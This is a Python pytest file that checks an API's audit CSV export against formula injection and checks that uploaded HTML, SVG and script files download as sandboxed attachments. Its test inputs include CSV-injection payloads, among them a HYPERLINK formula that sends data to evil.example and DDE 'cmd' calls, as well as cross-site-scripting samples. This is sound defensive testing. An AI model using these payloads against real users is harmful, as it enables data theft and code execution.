"""Exports and downloads: no formula in the audit CSV, no file that runs in a browser."""

from __future__ import annotations

import csv
import io

import pytest

from support import ADMIN, ALICE, App

DOCS = "/api/v26.1/objects/documents"
AUDIT = "/api/v26.1/ext/audit"


@pytest.mark.parametrize(
    "username",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
async def test_formula_cells_in_the_audit_csv_start_with_a_quote(app: App, username: str) -> None:
    await app.client.post("/api/v26.1/auth", data={"username": username, "password": "x"})
    admin = await app.login(ADMIN)
    response = await app.client.get(AUDIT, params={"format": "csv", "kind": "login"}, headers=admin)
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    names = [row["username"] for row in rows]
    assert f"'{username}" in names
    assert ADMIN[0] in names, "an ordinary cell is left as it is"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-disposition"].startswith("attachment")


async def test_a_downloaded_file_is_an_attachment_never_sniffed_and_sandboxed(app: App) -> None:
    headers = await app.login(ALICE)
    created = await app.client.post(
        DOCS,
        data={"name__v": "Note", "type__v": "memo__c"},
        files={"file": ("note.txt", b"plain words", "text/plain")},
        headers=headers,
    )
    document_id = created.json()["id"]
    for path in (f"{DOCS}/{document_id}/file", f"{DOCS}/{document_id}/versions/0/1/file"):
        response = await app.client.get(path, headers=headers)
        assert response.content == b"plain words"
        assert response.headers["content-type"].startswith("text/plain")
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["content-security-policy"].startswith("sandbox")
        assert response.headers["content-disposition"] == "attachment; filename*=UTF-8''note.txt"


@pytest.mark.parametrize(
    ("file_name", "declared", "data"),
    [
        ("page.html", "text/html", b"<script>alert(document.cookie)</script>"),
        ("page.htm", "application/octet-stream", b"<script>alert(1)</script>"),
        ("image.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
        ("data.xml", "application/xml", b"<?xml version='1.0'?><a/>"),
        ("page.xhtml", "application/xhtml+xml", b"<html/>"),
        ("run.js", "text/javascript", b"alert(1)"),
        ("odd", "text/html; charset=utf-8", b"<b>bold</b>"),
    ],
)
async def test_html_svg_xml_and_scripts_download_as_plain_bytes(
    app: App, file_name: str, declared: str, data: bytes
) -> None:
    headers = await app.login(ALICE)
    created = await app.client.post(
        DOCS,
        data={"name__v": "Active content", "type__v": "memo__c"},
        files={"file": (file_name, data, declared)},
        headers=headers,
    )
    assert created.json()["responseStatus"] == "SUCCESS", created.json()
    response = await app.client.get(f"{DOCS}/{created.json()['id']}/file", headers=headers)
    assert response.content == data
    assert response.headers["content-type"] == "application/octet-stream"
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-security-policy"].startswith("sandbox")
